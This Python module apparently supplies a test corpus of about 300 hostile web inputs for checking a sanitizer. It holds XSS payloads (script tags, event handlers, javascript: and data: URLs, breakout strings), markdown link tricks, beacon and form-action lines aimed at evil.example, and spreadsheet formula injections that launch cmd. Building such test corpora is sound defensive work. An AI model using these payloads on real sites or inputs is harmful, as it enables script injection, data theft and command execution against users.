"""Texts that attack a page: scripts, handlers, addresses, pictures, breakouts, spreadsheet formulas."""

from __future__ import annotations

HOSTILE: tuple[str, ...] = (
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>", "<a href=' &#106;avascript:alert(1)'>x</a>", "<a href=\"java\tscript:alert(1)\">x</a>",
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](vbscript:msgbox(1))",
    "[x](//evil.example)", "[x](file:///etc/passwd)", "![x](javascript:alert(1))", "![x](http://evil.example/beacon.png)",
    "<img src=http://evil.example/beacon.png>", "<link rel=stylesheet href=http://evil.example/x.css>", "<style>@import 'http://evil.example'</style>",
    "<div style=\"background:url(http://evil.example/x)\">x</div>", "<p style=position:fixed;inset:0>x</p>", "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>", "<form action=http://evil.example><input name=p><button>go</button></form>",
    "<input autofocus onfocus=alert(1)>", "<video src=x onerror=alert(1)>", "<audio src=http://evil.example/x>", "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>", "<math><mi xlink:href=javascript:alert(1)>x</mi></math>", "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>", "<marquee onstart=alert(1)>", "<template><script>alert(1)</script></template>", "<noscript><img src=x onerror=alert(1)></noscript>",
    "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>", "\" onmouseover=alert(1) x=\"", "' onmouseover='alert(1)", "` onmouseover=alert(1)",
    "--><script>alert(1)</script>", "]]><script>alert(1)</script>", "</style><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "</pre><script>alert(1)</script>", "<!--<script>alert(1)//-->", "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "${alert(1)}", "{{constructor.constructor('alert(1)')()}}", "%{x}<img src=x onerror=alert(1)>", "<extra></extra><img src=x onerror=alert(1)>",
    "$$\\href{javascript:alert(1)}{x}$$", "<a href='http://evil.example' target=_top>x</a>", "<b onclick=alert(1)>b</b>", "<span class=\"wb-picture\" onclick=alert(1)>x</span>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;", "\u2028<script>alert(1)</script>", "\U0001f600<script>", "\u202e<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>", "<script\n>alert(1)</script\n>", "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>", "<<script>script>alert(1)<</script>/script>",
    "<a href=\"https://user:pass@evil.example\">x</a>", "<https://evil.example@host>", "<javascript:alert(1)>", "[x]: javascript:alert(1)\n[x]", "<ol start='1\" onclick=alert(1)'><li>x</ol>",
    "=HYPERLINK(\"http://evil.example\",\"x\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
)  # fmt: skip

_HANDLERS = (
    "onerror",
    "onload",
    "onmouseover",
    "onfocus",
    "onclick",
    "onanimationstart",
    "ontoggle",
    "onpointerenter",
    "onbegin",
    "onauxclick",
)
_ELEMENTS = ("img src=x", "svg", "video src=x", "audio src=x", "iframe src=x", "details open", "input autofocus", "a href=x tabindex=0", "object data=x",
             "math", "select autofocus", "embed src=x", "body", "style", "xss contenteditable tabindex=0")  # fmt: skip
_ADDRESSES = ("javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "&#106;avascript:alert(1)", "\x01javascript:alert(1)",
              "javascript&colon;alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:alert(1)", "blob:https://evil.example/1", "//evil.example/x",
              "https://evil.example@good.example/", "https:evil.example", "feed:javascript:alert(1)", "view-source:javascript:alert(1)")  # fmt: skip
_AROUND = (
    "{}",
    '<a href="{}">x</a>',
    "[x]({})",
    "<{}>",
    "![x]({})",
    '<img src="{}">',
    '<iframe src="{}"></iframe>',
    "\"> <a href='{}'>x</a>",
)


def payloads() -> tuple[str, ...]:
    """300 texts: all of HOSTILE, then handlers on elements, then addresses in every dress."""
    made = dict.fromkeys(HOSTILE)
    made.update((f"<{element} {handler}=alert(1)>", None) for handler in _HANDLERS for element in _ELEMENTS)
    made.update((around.format(address), None) for address in _ADDRESSES for around in _AROUND)
    return tuple(made)[:300]
